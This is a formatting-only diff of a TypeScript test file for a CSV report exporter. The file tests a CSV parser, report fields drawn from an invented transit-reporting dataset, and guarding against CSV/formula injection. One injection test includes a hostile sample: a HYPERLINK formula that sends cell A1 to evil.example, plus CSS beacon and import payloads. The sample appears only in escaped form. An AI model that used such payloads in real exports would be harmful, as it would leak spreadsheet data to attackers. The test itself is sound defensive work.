@@ -33,7 +33,8 @@ function parseCsv(text: string): string[][] {
       }
     } else {
       while (index < text.length && text[index] !== ',' && text[index] !== '\r') {
-        if (text[index] === '"' || text[index] === '\n') throw new Error(`bare ${JSON.stringify(text[index])} in unquoted field at ${index}`)
+        if (text[index] === '"' || text[index] === '\n')
+          throw new Error(`bare ${JSON.stringify(text[index])} in unquoted field at ${index}`)
         field += text[index++]
       }
     }
@@ -80,7 +81,9 @@ describe('CSV report', () => {
     expect(item2[column('sources')]).toBe('Riverton Transit annual report 2023')
     expect(item2[column('passages')]).toContain('Passenger boardings: 41.2m')
     expect(item2[column('notes')]).toBe('Priya Raman: Transit press office says journeys are not counted separately.')
-    expect(records[0][column('sources')]).toBe('Fares to fall from March (https://www.riverton.example.gov/news/fares-to-fall); Amara Osei, Chair, transport committee')
+    expect(records[0][column('sources')]).toBe(
+      'Fares to fall from March (https://www.riverton.example.gov/news/fares-to-fall); Amara Osei, Chair, transport committee'
+    )
     expect(records[3][column('open queries')]).toBe('Can we see the budget paper that ties the fare cut to the levy?')
     expect(records[2][column('speaker')]).toBe('Amara Osei')
     expect(records[0][column('score')]).toBe('0.8')
@@ -106,7 +109,13 @@ describe('CSV report', () => {
     expect(csvCell("'Tis the season")).toBe('"\'Tis the season"')
     const rows = parseCsv(renderCsv(hostileCase(), { now: FIXED_NOW }).slice(1))
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
-    expect(rows.some((row) => row.includes(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click") x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css); cost 40 million.`))).toBe(true)
+    expect(
+      rows.some((row) =>
+        row.includes(
+          `'=HYPERLINK("https://evil.example/?leak="&A1,"Click") x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css); cost 40 million.`
+        )
+      )
+    ).toBe(true)
   })
 
   test('any text survives a round trip through a cell', () => {
@@ -115,8 +124,16 @@ describe('CSV report', () => {
         const line = `${csvCell(a)},${csvCell(b)}\r\n`
         const [row] = parseCsv(line)
         // eslint-disable-next-line no-control-regex -- the report drops control characters; so does the expectation
-        const clean = (value: string) => value.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g, '')
-        expect(row.map(unguard)).toEqual([clean(a), clean(b)].map((value) => value.replace(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g, (c) => `⟦U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟧`)))
+        const clean = (value: string) =>
+          value.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g, '')
+        expect(row.map(unguard)).toEqual(
+          [clean(a), clean(b)].map((value) =>
+            value.replace(
+              /[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g,
+              (c) => `⟦U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟧`
+            )
+          )
+        )
       }),
       { numRuns: 300 }
     )
